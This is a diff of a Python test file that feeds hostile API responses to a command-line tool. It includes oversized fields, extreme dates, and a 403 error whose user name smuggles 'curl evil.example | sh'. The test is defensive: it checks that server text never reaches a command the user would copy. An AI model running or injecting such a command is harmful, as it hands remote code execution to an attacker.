@@ -146,8 +146,9 @@ def lists():
                  {LISTS: answered(table(3, lambda row: [f"n{row}", "w" * (1 << 20) if row == 0
                                                         else "x", "e"], 500))})
     forbidden = 'configmaps is forbidden: User "x; curl evil.example | sh #" cannot list'
+    # The hint is a command to copy, so it has no words of the server.
     yield Attack("A28", "a user name in a 403 that a shell would run", GET,
-                 "--as 'x; curl evil.example | sh #'", 5,
+                 "hint: kinf check configmaps -n default", 5,
                  {LISTS: answered(status(403, "Forbidden", forbidden), 403)})
     for date in ("9999-12-31T23:59:59Z", "1600-01-01T00:00:00Z", "0001-01-01T00:00:00Z"):
         item = config_map().replace('"uid"', f'"creationTimestamp":"{date}","uid"')
